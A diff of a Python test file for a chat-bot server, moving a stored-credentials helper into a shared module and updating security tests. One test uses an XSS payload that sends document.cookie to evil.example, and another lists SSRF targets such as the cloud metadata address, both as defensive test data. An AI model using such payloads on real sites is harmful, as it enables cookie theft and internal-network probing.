@@ -18,8 +18,7 @@ import yaml
 
 from bot.settings import Settings
 from bot.simulation import real_platforms, simulators_to_mount
-from bot.storage.engine import create_engine, make_sessionmaker
-from bot.storage.simulators import load_records
+from tests.support.db import stored_simulator_credentials
 from tests.support.process import ROOT, http, http_json, running
 from tests.support.servers import free_port
 
@@ -44,16 +43,6 @@ def _signed(token: str, **extra: str) -> str:
 
 def _dead_api(port: int) -> str:
     return f"http://127.0.0.1:{port}"  # nothing listens: the real platform is configured, never reached
-
-
-async def _stored_credentials(database_url: str) -> dict[str, dict[str, str]]:
-    engine = create_engine(database_url)
-    try:
-        sessions = make_sessionmaker(engine)
-        return {name: next(data for kind, _key, data in await load_records(sessions, name) if kind == "credentials")
-                for name in ("wechat", "telegram")}
-    finally:
-        await engine.dispose()
 
 
 TELEGRAM_SIMULATOR_PATHS = [
@@ -137,7 +126,7 @@ async def test_simulator_credentials_are_random_per_database_and_the_old_ones_op
     port = free_port()
     env = {"ENGAGEBOT_DATABASE_URL": database_url, "ENGAGEBOT_PORT": str(port)}
     with running("run", env=env, cwd=tmp_path, port=port) as server:
-        stored = await _stored_credentials(database_url)
+        stored = await stored_simulator_credentials(database_url)
         status, _h, _b = http("GET", f"{server.url}/bot{OLD_TELEGRAM_TOKEN}/getMe")
         assert status == 401
         assert http_json("GET", f"{server.url}/bot{stored['telegram']['token']}/getMe")["ok"] is True
@@ -153,10 +142,10 @@ async def test_simulator_credentials_are_random_per_database_and_the_old_ones_op
         assert (status, body) == (200, b"e2")
     # The same database keeps its credentials; another database gets its own.
     with running("run", env=env, cwd=tmp_path, port=port, name="again"):
-        assert await _stored_credentials(database_url) == stored
+        assert await stored_simulator_credentials(database_url) == stored
     other_url = f"sqlite+aiosqlite:///{tmp_path / 'other.db'}"
     with running("run", env={**env, "ENGAGEBOT_DATABASE_URL": other_url}, cwd=tmp_path, port=port, name="other"):
-        other = await _stored_credentials(other_url)
+        other = await stored_simulator_credentials(other_url)
     for name in ("wechat", "telegram"):
         for key, value in stored[name].items():
             assert other[name][key] != value, (name, key)
@@ -169,7 +158,7 @@ async def test_setwebhook_to_another_machine_is_refused(tmp_path: Path, database
     port = free_port()
     env = {"ENGAGEBOT_DATABASE_URL": database_url, "ENGAGEBOT_PORT": str(port)}
     with running("run", env=env, cwd=tmp_path, port=port) as server:
-        token = (await _stored_credentials(database_url))["telegram"]["token"]
+        token = (await stored_simulator_credentials(database_url))["telegram"]["token"]
         api = f"{server.url}/bot{token}"
         for url in ("http://169.254.169.254/latest/meta-data/", "http://10.0.0.1:8080/hook",
                     "https://example.com/hook", "http://[2001:db8::1]/hook", "http://127.0.0.1.nip.io/hook",
@@ -186,7 +175,7 @@ async def test_an_uploaded_html_page_is_only_ever_served_as_a_download(tmp_path:
     env = {"ENGAGEBOT_DATABASE_URL": database_url, "ENGAGEBOT_PORT": str(port)}
     page = b"<html><script>document.location='https://evil.example/?c='+document.cookie</script></html>"
     with running("run", env=env, cwd=tmp_path, port=port) as server:
-        token = (await _stored_credentials(database_url))["telegram"]["token"]
+        token = (await stored_simulator_credentials(database_url))["telegram"]["token"]
         sim = f"{server.url}/simulator/telegram/api"
         user = http_json("POST", f"{sim}/users", {"first_name": "Mallory"})["user"]["id"]
         http_json("POST", f"{sim}/send", {"user_id": user, "text": "hi"})  # the chat is open
